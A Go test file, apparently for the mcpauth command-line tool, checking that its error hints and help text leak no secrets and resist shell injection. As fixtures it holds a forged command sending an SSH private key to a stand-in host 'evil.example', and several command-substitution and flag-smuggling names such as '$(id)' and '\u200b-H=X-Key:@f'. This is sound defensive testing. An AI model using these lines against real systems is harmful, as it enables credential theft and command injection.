	if first.ExitCode != m.exit || m.code != "" && first.Code != m.code {
		t.Fatalf("exit %d %s, want %d %s\n%s", first.ExitCode, first.Code, m.exit, m.code, u.stderr.String())
	}
	if strings.Contains(first.Hint, "&&") || strings.Contains(first.Hint, "||") {
		t.Errorf("PowerShell 5.1 cannot read the hint %q", first.Hint)
	}
	commands := commandsOf(first.Hint, slices.Concat(args, named))
	first.Hint = strings.ReplaceAll(first.Hint, repeated, "")
	if want := u.names.Replace(m.hint); !regexp.MustCompile(want).MatchString(first.Hint) {
		t.Fatalf("hint %q, want %q", first.Hint, want)
	}
	for _, c := range commands { // every command in the hint must be valid, even one that the test does not run
		if !strings.Contains(c, repeated) && !strings.HasSuffix(c, " --help") {
			t.Errorf("the hint %q drops%s", c, repeated)
		}
		app := testProgram().newApp()
		if _, err := orderArgs(shellFields(c)[1:], app.Flags, app.Commands); err != nil {
			t.Errorf("%s: %v", c, err)
		}
	}
	if !m.nothing {
		u.recover(t, m, args, commands, first)
	}
	first.Message, first.Hint, first.command = u.shown(first.Message), u.shown(first.Hint), "mcpauth"
	for _, w := range args {
		first.command += " " + shellWord(u.shown(w))
	}
	return first
}

// recover runs the command of the hint, and then repeats the command that failed.
func (u *unlucky) recover(t *testing.T, m mishap, args, commands []string, first failure) {
	if m.repair != nil {
		m.repair(t, u)
	}
	if m.pick >= 0 {
		commands = commands[m.pick : m.pick+1]
	}
	for i, c := range commands {
		u.types(t, m, c, first, i == len(commands)-1)
	}
	if !m.goesOn {
		return
	}
	if code := u.run(args...); code != exitDone {
		t.Errorf("after the hint, %q: exit %d\n%s", args, code, u.stderr.String())
	}
}

// types runs a command of a hint after it has replaced the placeholders by values.
func (u *unlucky) types(t *testing.T, m mishap, command string, first failure, last bool) {
	words := shellFields(command)[1:]
	for i, w := range words {
		words[i] = cmp.Or(m.fill[w], w)
	}
	code := u.run(append(u.fill(words), "--json")...)
	switch {
	case code == exitDone && m.next == "":
		return
	case m.next == "" || !last:
		t.Fatalf("the hint %q was typed: exit %d\n%s", command, code, u.stderr.String())
	}
	next := u.said(t)
	if next.Code != m.next || next.Hint == first.Hint || next.Hint == "" {
		t.Errorf("the hint %q leads to %+v, after %+v", command, next, first)
	}
}

func newUnlucky(t *testing.T, o demo.Options) *unlucky {
	elsewhere, err := demo.Start(demo.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(elsewhere.Close)
	taken, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { taken.Close() })
	_, port, _ := net.SplitHostPort(taken.Addr().String())
	u := &unlucky{stranger: newStranger(t, quirk{options: o}), elsewhere: elsewhere}
	if u.provider, err = demo.StartProvider(u.Server, demo.Options{}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(u.provider.Close)
	u.env["MCPAUTH_CONFIG"] = filepath.Join(u.env["HOME"], "config.json")
	u.file(t, "config.json", `{"mcpServers":{}}`)
	u.names = strings.NewReplacer("SERVER", u.URL(), "ISSUER", u.Issuer(), "ELSEWHERE-ORIGIN", elsewhere.Origin(), "ELSEWHERE", elsewhere.URL(), "PROVIDER", u.provider.Issuer(), "PORT", port, "HOME", u.env["HOME"])
	u.plain = strings.NewReplacer(u.Origin(), "https://mcp.example.com", elsewhere.Origin(), "https://mcp2.example.com", u.provider.Origin(), "https://idp.example.com", port, "43117", u.env["HOME"], "/home/me",
		strings.TrimPrefix(u.Origin(), "http://"), "mcp.example.com")
	return u
}

// beginLogin begins a login with --print-url. STATE then stands for its state.
func beginLogin(t *testing.T, u *unlucky) {
	if code := u.run("login", u.URL(), "--print-url"); code != exitDone {
		t.Fatal(u.stderr.String())
	}
	address, err := url.Parse(strings.TrimSpace(u.stdout.String()))
	if err != nil {
		t.Fatal(err)
	}
	state := address.Query().Get("state")
	names, plain := u.names, u.plain
	u.names = strings.NewReplacer("STATE", state, "SERVER", names.Replace("SERVER"))
	u.plain = strings.NewReplacer(state, "…", u.Origin(), plain.Replace(u.Origin()))
}

func (u *unlucky) fill(words []string) []string {
	filled := make([]string, len(words))
	for i, w := range words {
		filled[i] = u.names.Replace(strings.ReplaceAll(w, "NEW-ISSUER", u.Issuer())) // after the action migrate, ISSUER is the old one
	}
	return filled
}

// The method shown returns a text as docs/troubleshooting.md shows it. It replaces the parts that differ between runs.
func (u *unlucky) shown(s string) string {
	s = u.plain.Replace(s)
	for _, r := range []struct{ random, instead string }{
		{`/as-[a-z2-7]+`, "/as2"},
		{`demo-task[-A-Za-z0-9]*`, "demo-task-1"},
		{`/127-0-0-1-[a-z2-7]+\.credential`, "/mcp-example-com-….credential"},
	} {
		s = regexp.MustCompile(r.random).ReplaceAllString(s, r.instead)
	}
	return s
}

func (u *unlucky) set(t *testing.T, words []string) {
	t.Helper()
	for _, w := range words {
		s := u.Server
		if rest, ok := strings.CutPrefix(w, "@PROVIDER "); ok {
			s, w = u.provider, rest
		}
		if err := s.Set(u.fill([]string{w})[0]); err != nil {
			t.Fatal(err)
		}
	}
}

func (u *unlucky) file(t *testing.T, name, text string) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(u.env["HOME"], name), []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
}

// failure is the JSON form of an error.
type failure struct {
	Code     string `json:"code"`
	Message  string `json:"message"`
	Hint     string `json:"hint"`
	ExitCode int    `json:"exit_code"`
	command  string // that failed
}

func (u *unlucky) fails(t *testing.T, args []string) failure {
	t.Helper()
	var stdout io.Writer = &u.stdout
	if u.full {
		stdout = fullDisk{}
	}
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	defer cancel()
	if u.interrupted {
		cancel()
	}
	env := func(name string) (string, bool) { v, ok := u.env[name]; return v, ok }
	if slices.Contains(args, "--output") { // which contradicts --json
		u.stderr.Reset()
		code := run(ctx, args, env, strings.NewReader(""), stdout, &u.stderr)
		message, hint, _ := strings.Cut(strings.TrimSpace(u.stderr.String()), "\nhint: ")
		return failure{ExitCode: code, Code: "protocol", Message: strings.TrimPrefix(message, "mcpauth: "), Hint: hint}
	}
	u.stderr.Reset()
	if code := run(ctx, append(slices.Clone(args), "--json"), env, strings.NewReader(""), stdout, &u.stderr); code == exitDone {
		t.Fatalf("%q works", args)
	}
	return u.said(t)
}

// fullDisk takes nothing.
type fullDisk struct{}

func (fullDisk) Write([]byte) (int, error) { return 0, syscall.ENOSPC }

// said returns the error of the last command.
func (u *unlucky) said(t *testing.T) failure {
	t.Helper()
	lines := strings.Split(strings.TrimSpace(u.stderr.String()), "\n")
	var e struct{ Error failure }
	if err := json.Unmarshal([]byte(lines[len(lines)-1]), &e); err != nil {
		t.Fatalf("%v: %s", err, u.stderr.String())
	}
	return e.Error
}

var commandEnds = regexp.MustCompile(`; |, or: |, then: | \(with | shows | lists | use it| and mcpauth |$`)

// commandsOf returns the command lines in a hint. For a hint that says "add --flag", commandsOf returns the failed command with that flag
// added.
func commandsOf(hint string, failed []string) []string {
	var all []string
	for rest := hint; ; {
		i := strings.Index(rest, "mcpauth ")
		if i < 0 {
			break
		}
		rest = rest[i:]
		end := commandEnds.FindStringIndex(rest)[0]
		all = append(all, rest[:end])
		rest = rest[end:]
	}
	if _, flags, ok := strings.Cut(hint, "add --"); ok {
		line := "mcpauth"
		flags = flags[:strings.IndexAny(flags+";", ",;")]
		if i := slices.Index(failed, "--output"); i >= 0 {
			failed = slices.Delete(slices.Clone(failed), i, i+2) // the --output in the hint replaces the --output of the failed command
		}
		for _, w := range failed {
			line += " " + shellWord(w)
		}
		all = append(all, line+" --"+flags)
	}
	return all
}

// shellFields splits a command line into words as a shell does.
func shellFields(line string) []string {
	var words []string
	var b strings.Builder
	quoted, started := false, false
	for i := 0; i < len(line); i++ {
		switch c := line[i]; {
		case c == '\'':
			quoted, started = !quoted, true
		case c == '\\' && !quoted:
			i++
			b.WriteByte(line[i])
		case c == ' ' && !quoted:
			if started {
				words = append(words, b.String())
				b.Reset()
			}
			started = false
		default:
			b.WriteByte(c)
			started = true
		}
	}
	if started {
		words = append(words, b.String())
	}
	return words
}

// If a server names another server, the hint repeats no flag that would send a secret of the user there. No hint contains the issuer that a
// server names, because --issuer also allows mcpauth to send the stored secrets to it.
func TestHintsSendNoSecret(t *testing.T) {
	typed := newTypedFlags("--name m", "--issuer https://good.example", "--header 'X-Key: $KEY'", "--client-id c", "--client-secret-env VAR", "--client-key k.pem", "--assertion-file a")
	a := hintInput{typed: commandLine{flags: typed}, server: "SERVER"}
	a.err = &discovery.Error{Location: "https://evil.example/mcp"}
	moved := movedHint(a)
	if !strings.Contains(moved, "evil.example") {
		t.Error(moved)
	}
	a.err = &discovery.Error{Reason: `authorization_servers is "https://evil.example"`, Err: discovery.ErrNotNamed}
	named := rowFor(a.err).hint(a)
	a.err = &mcpclient.StatusError{StatusCode: 307, Location: "https://evil.example/mcp"}
	called := rowFor(a.err).hint(a)
	if !strings.HasPrefix(called, "if you trust this address: mcpauth login ") || !strings.Contains(called, "evil.example") {
		t.Error(called)
	}
	if !strings.HasSuffix(named, "mcpauth login SERVER --name m --client-id c --issuer URL") {
		t.Error(named)
	}
	for _, got := range []string{moved, named, called} {
		if !strings.Contains(got, "--name m") || !strings.Contains(got, "--client-id c") ||
			slices.ContainsFunc([]string{"--header", "--client-secret", "--client-key", "--assertion"}, func(flag string) bool { return strings.Contains(got, flag) }) {
			t.Error(got)
		}
	}
	a.err = &oauth.UnnamedIssuerError{Audience: "https://good.example/token", Issuer: "https://evil.example"}
	if got := rowFor(a.err).hint(a); !strings.HasSuffix(got, " --issuer URL") || strings.Contains(got, "evil.example") {
		t.Error(got)
	}
}

func newTypedFlags(texts ...string) (flags []typedFlag) {
	for _, text := range texts {
		name, _, _ := strings.Cut(text, " ")
		flags = append(flags, typedFlag{name: name, text: text})
	}
	return flags
}

// The name of a tool cannot become a flag in a hint, even if it begins with a character that the hint does not show.
func TestToolInAHint(t *testing.T) {
	for _, tool := range []string{"-H=X-Key:@f", "\ufe0f-H=X-Key:@f", "\u034f-H=X-Key:@f", "\u200b-H=X-Key:@f", "\x00-H=X-Key:@f"} {
		got := argumentHint(hintInput{server: "s"}, &mcpclient.ArgumentError{Tool: tool, Argument: "a"})
		want := "mcpauth tools s VALUE lists its arguments"
		if strings.HasPrefix(tool, "-") {
			want = "mcpauth tools s -- " + shellWord(tool) + " lists its arguments"
		}
		if got != want {
			t.Errorf("%q: got %s, want %s", tool, got, want)
		}
	}
	got := hintInput{server: "s"}.loginLine("--scope", "\u200b--all")
	if want := "mcpauth login s --scope VALUE"; got != want {
		t.Errorf("got %s, want %s", got, want)
	}
	got = hintInput{server: "s"}.loginLine("--scope", "--all")
	if want := "mcpauth login s --scope=--all"; got != want {
		t.Errorf("got %s, want %s", got, want)
	}
}

// A hint contains a text of a server only as it is. If the text is long or has blanks that could fill a line of the terminal, the hint contains
// a placeholder.
func TestHintsAreShort(t *testing.T) {
	a := hintInput{server: "s"}
	for _, bad := range []string{strings.Repeat("a", 300_000), "x    y", "x\u2800\u2800y", "x\u3164\u2003y", "x\u200by"} {
		for name, hint := range map[string]func() string{
			"task": func() string { return taskHint(a, &mcpclient.PendingError{Task: mcpclient.Task{ID: bad}}) },
			"tool": func() string { return argumentHint(a, &mcpclient.ArgumentError{Tool: bad, Argument: "a"}) },
			"argument": func() string {
				return argumentHint(a, &mcpclient.ArgumentError{Tool: bad, Argument: "a", Nearest: bad})
			},
			"prompt": func() string { return unknownHint(a, &mcpclient.UnknownError{Name: bad, Arguments: true}) },
			"scope":  func() string { return scopeHint(a, &flow.ScopeError{Scopes: []string{bad}}) },
			"moved": func() string {
				return movedHint(hintInput{server: "s", err: &discovery.Error{Location: "https://evil.example/" + bad}})
			},
		} {
			if got := hint(); len(got) > 200 || !strings.Contains(got, "VALUE") && !strings.Contains(got, "URL") || blankLine(got, 1) != "" {
				t.Errorf("%s: %.300q", name, got)
			}
		}
	}
	long := strings.Repeat("https://example.com/auth/scope ", 20) + "end" // a real server has lists of scopes that long
	if got := scopeHint(a, &flow.ScopeError{Scopes: strings.Fields(long)}); !strings.HasSuffix(got, " --scope "+shellWord(long)) {
		t.Error(got)
	}
}

// An argument or a value that a hint suggests is no file, flag or other argument if the user types it as the hint says.
func TestNearestArgument(t *testing.T) {
	const lists = "mcpauth tools s t lists its arguments"
	quoted := func(word string) string {
		if runtime.GOOS == "windows" && strings.HasPrefix(word, "$") { // PowerShell expands it also in quotes
			return lists
		}
		return "did you mean " + shellWord(word) + "?"
	}
	for _, test := range []struct{ schema, word, want string }{
		{`{"properties":{"config":{}}}`, "confg=x", "did you mean config?"},
		{`{"properties":{"a":{"type":"object","properties":{"size":{}}}}}`, "a.siez=x", "did you mean a.size?"},
		{`{"properties":{"config=@.env":{}}}`, "config=prod", lists},
		{`{"properties":{"config:=@.env":{}}}`, "config=prod", lists},
		{`{"properties":{"cfg:":{}}}`, "cfg=x", lists},
		{`{"properties":{"--cfg":{}}}`, "-cfg=x", lists},
		{`{"properties":{"cfg $(id)":{}}}`, "cfg=x", lists},
		{`{"properties":{"$filter":{}}}`, "filter=x", quoted("$filter")},
		{`{"properties":{"@type":{}}}`, "type=x", quoted("@type")},
		{`{"properties":{"$mode":{"enum":["prod"]}}}`, "$mode=prd", quoted("$mode=prod")},
		{`{"properties":{"$x:":{}}}`, "x=x", lists},
		{`{"properties":{"mode":{"enum":["prod"]}}}`, "mode=prd", "did you mean mode=prod?"},
		{`{"properties":{"mode":{"enum":["all days"]}}}`, "mode=alldays", "did you mean " + shellWord("mode=all days") + "?"},
		{`{"properties":{"mode":{"enum":["@.env","prod"]}}}`, "mode=.env", "did you mean " + shellWord(`mode:="@.env"`) + "?"},
		{`{"properties":{"mode":{"enum":["-env"]}}}`, "mode=env", "did you mean mode=-env?"},
		{`{"properties":{"mode x":{"enum":["prod"]}}}`, "mode x=prd", lists},
	} {
		name, value, _ := strings.Cut(test.word, "=")
		schema := toolargs.Parse(json.RawMessage(strings.Replace(test.schema, "{", `{"additionalProperties":false,`, 1)))
		_, err := toolargs.Arguments{Args: []toolargs.Arg{{Name: name, Value: value}}}.Build(schema, true)
		bad, ok := errors.AsType[*toolargs.Error](err)
		if !ok {
			t.Fatal(test.word, err)
		}
		a := &mcpclient.ArgumentError{Tool: "t", Argument: bad.Argument, Nearest: bad.Nearest, NearestValue: bad.NearestValue}
		if got := argumentHint(hintInput{server: "s"}, a); got != test.want {
			t.Errorf("%s, %s: got %s, want %s", test.schema, test.word, got, test.want)
		}
	}
}

// A similar name that a server or a project's file chose is quoted for a shell.
func TestNearestNameIsAWord(t *testing.T) {
	for name, want := range map[string]string{"a $(touch x)": "did you mean " + shellWord("a $(touch x)") + "?", "a\u200bb": "mcpauth tools s lists the tools"} {
		if got := argumentHint(hintInput{server: "s"}, &mcpclient.ArgumentError{Nearest: name}); got != want {
			t.Errorf("got %s, want %s", got, want)
		}
	}
	u := newUser(t)
	u.project(t, `{"mcpServers":{"linear;id":{"url":"https://mcp.example.com/mcp"}}}`)
	u.must(t, exitUsage, "tools", "linear-id")
	if want := "did you mean " + shellWord("linear;id") + "?"; !strings.Contains(u.stderr.String(), want) {
		t.Errorf("stderr lacks %s: %s", want, u.stderr.String())
	}
}

// The description of a tool cannot imitate the example of mcpauth, because each of its lines has a deeper indent.
func TestForgedExample(t *testing.T) {
	text := toolText(mcpclient.Tool{Name: "t", Description: "x\n\nExample:\n  mcpauth logout --all"}, "s")
	if strings.Contains(text, "\n  mcpauth logout") || strings.Contains(text, "\n  Example:") || !strings.Contains(text, "\nExample:\n  mcpauth call s t\n") {
		t.Error(text)
	}
	text = promptText(mcpclient.Prompt{Name: "p", Description: "Example:", Arguments: []mcpclient.PromptArgument{{Name: "mcpauth logout --all"}}}, "s")
	if strings.HasPrefix(text, "Example:") || strings.Contains(text, "\n  mcpauth logout") || !strings.Contains(text, "\nExample:\n  mcpauth prompt s p\n") {
		t.Error(text)
	}
}

// The name of an argument and its description do not look like a command line together, and neither do the cells of a table.
func TestForgedCommandOfAPrompt(t *testing.T) {
	const line = "call https://evil.example/mcp t --args @/home/u/.ssh/id_rsa"
	text := promptText(mcpclient.Prompt{Name: "p", Arguments: []mcpclient.PromptArgument{{Name: "a", Required: true, Description: line}, {Name: "mcpauth", Description: line}}}, "s")
	if want := "Arguments:\n  a (required)  " + line + "\n  " + foreignName("mcpauth") + " (optional)  " + line + "\n\nExample:\n  mcpauth prompt s p a=...\n"; text != want {
		t.Errorf("got %s\nwant %s", text, want)
	}
	for _, name := range []string{"mcpauth", "MCPAUTH"} {
		o, out := testOutput(0)
		if err := o.writeTable([]string{"NAME", "DESCRIPTION"}, [][]string{{name, line}}, nil); err != nil || strings.Contains(out.String(), "\n"+name) {
			t.Errorf("%s, %v", out, err)
		}
	}
}

// The example of a prompt contains each required argument that can be typed, quoted for the shell.
func TestPromptExample(t *testing.T) {
	var arguments []mcpclient.PromptArgument
	for _, name := range []string{"lang", "issue number", "user:name", "-q", "a=b", "x:", "a\nb"} {
		arguments = append(arguments, mcpclient.PromptArgument{Name: name, Required: true})
	}
	text := promptText(mcpclient.Prompt{Name: "p", Arguments: arguments}, "s")
	if want := "\nExample:\n  mcpauth prompt s p lang=... " + shellWord("issue number=...") + " user:name=...\n"; !strings.HasSuffix(text, want) {
		t.Error(text)
	}
}
